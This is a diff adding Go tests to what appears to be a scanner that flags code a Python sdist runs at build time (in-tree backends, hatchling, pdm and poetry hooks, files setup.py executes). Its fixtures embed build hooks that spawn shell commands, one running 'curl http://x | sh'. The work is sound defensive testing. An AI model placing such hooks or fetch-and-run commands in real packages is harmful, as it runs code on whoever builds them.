@@ -118,3 +118,74 @@ func TestSetupPyCallsIntoThePackage(t *testing.T) {
 		t.Fatalf("held: %+v", held)
 	}
 }
+
+// sdist builds files from an sdist's root folder's relative paths.
+func sdist(t *testing.T, files map[string]string) *Report {
+	t.Helper()
+	var headers []tar.Header
+	bodies := map[string]string{}
+	for n, b := range files {
+		headers = append(headers, tar.Header{Name: "demo-1.0/" + n, Typeflag: tar.TypeReg})
+		bodies["demo-1.0/"+n] = b
+	}
+	rep, err := inspectBytes(t, "demo-1.0.tar.gz", tarGz(t, headers, bodies))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rep
+}
+
+// What a build runs beyond setup.py's top level: an in-tree backend's
+// hooks, hatchling's and pdm-backend's build hooks, poetry's build script,
+// a file setup.py executes. Each holds on the file and line that does it.
+func TestBuildTimeCodeBeyondSetupPy(t *testing.T) {
+	const spawnHook = "import subprocess\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.Popen(['sh', '-c', 'id'])\n"
+	for _, tt := range []struct {
+		name  string
+		files map[string]string
+		path  string // "" = nothing held
+		line  int
+		why   string
+	}{
+		{"in-tree backend hook", map[string]string{
+			"pyproject.toml":           "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_custom_build\"]\n",
+			"_custom_build/backend.py": spawnHook}, "demo-1.0/_custom_build/backend.py", 4, "build_wheel in demo-1.0/_custom_build/backend.py is a build hook"},
+		{"in-tree backend in a folder never installed, dotted", map[string]string{
+			"pyproject.toml":   "[build-system]\nbuild-backend = \"be.impl:backend\"\nbackend-path = [\"tools\"]\n",
+			"tools/be/impl.py": "import os\nos.system('id')\n"}, "demo-1.0/tools/be/impl.py", 2, "built or installed"},
+		{"hatchling hook at a custom path", map[string]string{
+			"pyproject.toml":   "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"scripts/hooks.py\"\n",
+			"scripts/hooks.py": "import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass H(BuildHookInterface):\n    def initialize(self, version, build_data):\n        os.system('curl http://x | sh')\n"}, "demo-1.0/scripts/hooks.py", 6, "H.initialize"},
+		{"hatch_build.py by its name", map[string]string{
+			"hatch_build.py": "import os\n\nclass H:\n    def finalize(self, version, build_data, artifact):\n        os.system('id')\n"}, "demo-1.0/hatch_build.py", 5, "H.finalize"},
+		{"pdm_build.py", map[string]string{
+			"pdm_build.py": "import subprocess\n\ndef pdm_build_update_files(context, files):\n    subprocess.run(['id'])\n"}, "demo-1.0/pdm_build.py", 4, "pdm_build_update_files"},
+		{"poetry build script", map[string]string{
+			"pyproject.toml":     "[tool.poetry.build]\nscript = \"tools/build_ext.py\"\n",
+			"tools/build_ext.py": "import subprocess\n\ndef build(setup_kwargs):\n    subprocess.Popen(['id'])\n"}, "demo-1.0/tools/build_ext.py", 4, "build in demo-1.0/tools/build_ext.py"},
+		{"a file setup.py executes", map[string]string{
+			"setup.py":      "import os\nhere = os.path.dirname(__file__)\nexec(compile(open(os.path.join(here, 'tools', 'meta.py')).read(), 'meta.py', 'exec'))\n",
+			"tools/meta.py": "import os\nos.system('id')\n"}, "demo-1.0/tools/meta.py", 2, "built or installed"},
+		// What builds never run stays informational.
+		{"a hook file pyproject does not name", map[string]string{
+			"pyproject.toml":   "[build-system]\nbuild-backend = \"hatchling.build\"\n",
+			"scripts/hooks.py": "import os\n\nclass H:\n    def initialize(self, version, build_data):\n        os.system('id')\n"}, "", 0, ""},
+		{"a backend's helper function nobody calls", map[string]string{
+			"pyproject.toml": "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_b\"]\n",
+			"_b/backend.py":  "import subprocess\n\ndef release():\n    subprocess.run(['twine', 'upload'])\n\ndef build_wheel(d, c=None, m=None):\n    return 'x.whl'\n"}, "", 0, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			rep := sdist(t, tt.files)
+			held := heldIn(t, rep)
+			if tt.path == "" {
+				if len(held) != 0 {
+					t.Fatalf("held: %+v", held)
+				}
+				return
+			}
+			if len(held) != 1 || held[0].Path != tt.path || held[0].Line != tt.line || !strings.Contains(held[0].Message, tt.why) {
+				t.Fatalf("held %+v, want %s:%d (%s)", held, tt.path, tt.line, tt.why)
+			}
+		})
+	}
+}
